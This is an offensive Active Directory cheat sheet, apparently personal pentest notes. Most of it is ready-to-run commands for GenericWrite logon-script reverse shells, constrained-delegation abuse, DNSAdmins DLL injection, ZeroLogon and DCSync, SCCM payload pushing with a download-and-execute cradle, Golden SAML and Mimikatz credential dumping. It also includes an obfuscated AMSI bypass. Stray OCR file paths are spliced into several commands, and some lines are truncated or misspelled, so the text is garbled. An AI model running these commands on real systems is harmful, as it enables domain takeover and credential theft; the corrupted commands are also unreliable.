Get-DomainGroupMember -SamAccountName 'DomainAdmins'

Abusing Generic Write on user

#find a user on whom we have generic write acess and add a script block (which contains a rev shell) to the user account. som when the user logins - we get rev shell

#Enumerate to find all objects with GenericWrite
Get-ObjectAcl -SamAccountName * -ResolveGUIDs | ? {($_.ActiveDirectoryRights -match 'GenericWrite')}
#Create a rev shell
msfvenom -a x64 -p windows/x64/shell_reverse_tcp LHOST=LPORT=9001 -f exe > revshell.exe

#Copy the rev shell on a SMB share which is accessible to the target machine.

#Set the script path to the user
Set-DomainObject -Identity UserName -Set @{'scriptpath'='\\share\revshell.exe'} -Verbose

#start a listner, when the user logs in we get a rev shell as the user.
rlwrap nc.exe -nvlp 9001
Generic Write - Constrained delegation attack

powershell.exe -ep bypass

sET-ItEM ( 'V'+'aR' + 'IA' + 'blE:1q2' + 'uZx' ) ( [TYpE]( "{1}{0}"-F'F','rE' ) ) ; ( GeT-VariaBle ( "1Q2U" +"zX" ) -VaL )."A`ss`Embly"."GET`TY`Pe"(( "{6}{3}{1}{4}{2}{0}{5}" -f'Util','A','Amsi','.Management.','utomation.','s','System' ) )."g`etf`iElD"( ( "{0}{2}{1}" -f'amsi','d','InitFaile' ),( "{2}{4}{0}{1}{3}" -f 'Stat','i','NonPubli','c','c,' ))."sE`T`VaLUE"( ${n`ULl},${t`RuE} )

import-module ./PowerView.ps1
import-module ./Powermad.ps1

New-MachineAccount -MachineAccount mighty -Password $(ConvertTo-SecureString'Password@1234' -AsPlainText -Force) -Verbose

#if you do not have shell as the user -run below 2 commands and add -Credential $Cred along with the command whereever you need to elevate using these creds

$SecPassword = ConvertTo-SecureString 'PASSWORD@123' -AsPlainText -Force
$Cred = New-Object System.Management.Automation.PSCredential('steins.local\bhanu', $SecPassword)

$ComputerSid = Get-DomainComputer mighty -Properties objectsid | Select -Expand objectsid

$SD = New-ObjectSecurity.AccessControl.RawSecurityDescriptor -ArgumentList "O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;$($ComputerSid))" $SDBytes = New-Object byte[] ($SD.BinaryLength) $SD.GetBinaryForm($SDBytes, 0)

Get-DomainComputer Steins-DC.steins.local | Set-DomainObject -Credential $Cred -Set @{'msds-allowedtoactonbehalfofotheridentity'=$SDBytes} -verbose

./Rubeus.exe hash /password:'Password@1234' /user:mighty /domain:roundsoft.local

./Rubeus.exe s4u /user:mighty$ /rc4:A0989207854B684F07B5B6FE68169A35 /impersonateuser:TARGET_User /msdsspn:cifs/Steins-DC /ptt


dir \\steins-dc\c$ #check if it lists the directory

psexec.exe\\steins-dc cmd.exe

#Create a meterpreter shell using HackTheWorld and upload it to dc

certutil -f -split -urlcache

migrate the session to NT Authority System download hives

reg save HKLM\SYSTEM C:\system
reg save HKLM\SAM C:\sam

or use the below automated script

Generic Write -Constrained delegation attack

powershell.exe -ep bypass

sET-ItEM ( 'V'+'aR' + 'IA' + 'blE:1q2' + 'uZx' ) ( [TYpE]( "{1}{0}"-F'F','rE' ) ) ; ( GeT-VariaBle ( "1Q2U" +"zX" ) -VaL )."A`ss`Embly"."GET`TY`Pe"(( "{6}{3}{1}{4}{2}{0}{5}" -f'Util','A','Amsi','.Management.','utomation.','s','System' ) )."g`etf`iElD"( ( "{0}{2}{1}" -f'amsi','d','InitFaile' ),( "{2}{4}{0}{1}{3}" -f 'Stat','i','NonPubli','c','c,' ))."sE`T`VaLUE"( ${n`ULl},${t`RuE} )

Import-Module .\PowerView.ps1
Import-Module .\Powermad.ps1
function exploit ($Machine){
New-MachineAccount -MachineAccount $Machine -Password $(ConvertTo-SecureString 'Password@1234' -AsPlainText -Force) -Verbose
$ComputerSid = Get-DomainComputer $Machine -Properties objectsid | Select -Expand objectsid
Write-Output "[+] SID: $ComputerSid"
$SD = New-Object Security.AccessControl.RawSecurityDescriptor -ArgumentList "O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;$($ComputerSid))"
$SDBytes = New-Object byte[] ($SD.BinaryLength)
$SD.GetBinaryForm($SDBytes, 0)
Get-DomainComputer STEINS-DC -SearchBase "LDAP://DC=steins,DC=local" | Set-DomainObject -Set @{'msds-allowedtoactonbehalfofotheridentity'=$SDBytes} -SearchBase "LDAP://DC=steins,DC=local" -verbose
$RawBytes = Get-DomainComputer STEINS-DC -Properties 'msds-allowedtoactonbehalfofotheridentity' | select -expand msds-allowedtoactonbehalfofotheridentity
$Descriptor = New-Object Security.AccessControl.RawSecurityDescriptor -ArgumentList $RawBytes, 0
Write-Output "[+] Done!"

#save the script as mysrc.ps1

. .\mysrc.ps1exploit mighty

./Rubeus.exe hash /password:'Password@1234' /user:mighty /domain:roundsoft.local

./Rubeus.exe s4u /user:mighty$ /rc4:A0989207854B684F07B5B6FE68169A35 /impersonateuser:TARGET_User /msdsspn:cifs/Steins-DC /ptt

DNSAdmins Group to DC

- This attack works only if you are part of the defaultDNSAdmins Group.

DLL entry is stored at HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\DNS\Parameters\ - ServiceLevelPlugindll; Delete the entry after you aredone with the attack

#Create a Reverse shell DLL msfvenom -p windows/x64/shell_reverse_tcp LHOST= LPORT=443 -f dll -o rev.dll

#Start SMB Server
sudo shell .

#on Target who is a part of DNSAdmins Group
dnscmd.exe /config /serverlevelplugindll \\\shell\rev.dll

dnscmd.exe dc.steins.local /config /serverlevelplugindll \\\shell\rev.dll

#Restart DNS service

sc.exe \\HOSTNAME stop dns
sc.exe \\HOSTNAME start dns

#Start a netcat Lister
nc -nvlp 443

Exploting Knock & Pass Kerbeoros MS14-068

apt-get install krb5-user cifs-utils rdate

#add DCIP to /etc/hosts dc.steins.local dc

# Add the target as a namesever in /etc/resolv.conf#take a backup of /etc/krb5.conf and replace it with below - Case Sensitive
default_realm = HTB.LOCAL

kdc = mantis.htb.local:88
admin_serve = mantis.htb.local
default_domain = HTB.LOCAL
.domain.internal = HTB.LOCAL
domain.internal = HTB.LOCAL

#Generate a kerberos ticket
kinit james

#View the ticket


#Lets generate a Golden Ticket -dc-ip -target-ip steins.local/[email protected]

Abusing ZeroLogin CVE-2020-1472


#check if the dc is vulnerable or not
lsadump::zerologon  /taret::dc.steins.local /account:dc$

#Exploiting the vuln; password is removed for DC.
lsadump::zerologon  /taret::dc.steins.local /account:dc$ /exploit

#we can run dcsync attack to get the hash now. if we can get krbtgt hash - golden ticket and silver ticket attacks are possible
lsadump::dcsync /dc:dc.steins.local /authuser:dc$ /authdomain:anything.local /authpassword:"" /authntlm /user:krbtgt

Exploiting SCCM Server

Download and Import PowerSCCM.ps1 and add the below line to use custom payload without any encoding
$LaunchCMD = "powershell.exe iex(invoke-webrequest('') -UseBasicParsing)"

#Find SCCM Sitecode and Server HostnamePowerShell Find-LocalSccmInfo

#Connect to SCCM Server, creating a session
PowerShell New-SccmSession -ComputerName SCCM.steins.local -SiteCode BA1 -ConnectionType WMI

#View connected SCCM Agents

Get-SCCMSession | Get-SccmComputer

#List All Applications
Get-SCCMSession | Get-SCCMApplication

#If you have multiple targets, create a collection and push the payload/exploit to the target at once

Get-SCCMSession | New-SCCMCollection -CollectionName "targets" -CollectionType "Device"

#View All collections
Get-SCCMSession | Get-SCCMCollection | Select Name

#Add a server to our new collectionGet-SCCMSession |Add-SccmDeviceToCollection -ComputerNameToAdd "Vuln_server1" -CollectionName "targets"

#Create a new application with any payload as our manual payload will execute eitherway.
 Get-SCCMSession | New-SccmApplication -ApplicationName "shit" -Powershellunicodeb64 "Any_BASE64_Content"

#Create a Deployment and add it to our collection
Get-SCCMSession | New-SCCMApplicationDeployment -ApplicationName "shit" -AssignmentName "update" -CollectionName "targets"

#Force the clients to take the package
Get-SCCMSession |Invoke-SCCMDeviceCheckin -CollectionName "targets"

Exploiting ADFS_Server - Golden SAML Attack

#Suppose if you have adfs_server credentials - follow th below steps. Get ADFSDump from here

#Collect all the required info from ADFSDump - certs, tokens,endpoint detailscopy the Encrypted Token Signing Key Begin, decode it from base64 as save it blob (example below)

Download the private key and decode it
└─$ cat key

└─$ cat key| xxd -r -p > key.bin

Download ADFSpoof and run it as below
#Generate SAML Authentication token, use the SAML token to the endpoint applicaiton. python3 -b blob key.bin -s adfs.steins.local saml2 --endpoint 'https://endpoint.steins.local/SamlResponseServlet' --nameidformat 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient' --nameid '0x0security\administrator' --rpidentifier 'ME_2484c52-45g3-8541-df24-t543dsf18' --assertions '<Attribute Name=""><AttributeValue>0x0security\administrator</AttributeValue></Attribute>'

Exploiting Azure AD Sync Server

#Check if the service is turned on or not. if the serice is turned off, start it by following this Tutorial

#Use this script to dump msol hashes which has Domain replicate permissions - azuread_decrypt_msol_v2.ps1 #Copy the credentials, and using those creds - run DCSync on the domain controller

#login to the ADSync machine via RDP and copy mimikatz on the machine

# Shift+right click --> Run as another user --> use MSOL_2433243 creds
# Run below command to run dcsync attack, which dumps all hashes
lsadump::dcsync /domain:orbitfish.local /all /csvAbusing Exchange Severs

#Abusing Exchange if you are part of Organizational Management group, fixed the bug in 2019 c2

#Organizational Management group, --> has access to exchange server --> exchange server is a member of Exchange Trustred Subsystems --> Exchange Trustred Subsystems is a member of Exchange Windows Permissions --> who can modify WriteDACL on all the root level domain objects. which leads to forest compromise.

#Login to exchange server --> bypass AMSI
#upload mimikatz tothe target machine
Invoke-Command -FilePath .\Invoke-Mimikatz.ps1 -Session $ExchangeServer
Enter-PSSession $ExchangeServer

#Download all the keys/creds from exchange server
Invoke-Mimikatz -Command '"sekurlsa::ekeys"'

#abusing exchange to gain DCSync
Invoke-Mimikatz -Command '"sekurlsaL:LInvoke
Invoke-Mimikatz -Command '"sekurlsa::pth /user:ExchangeServer$ domain:Steins.local /ntlm:232d9ad8g79a8sac22f4asd36a543 /run:powershell.exe"'
Import-Module .\Microsoft.ActiveDirectory.Management.dll
Import-Module .\ActiveDirectory ActiveDirectory.psd1
Import-Module .\RACE.ps1

#Adding an ACL To DC to allow DCSync permissions
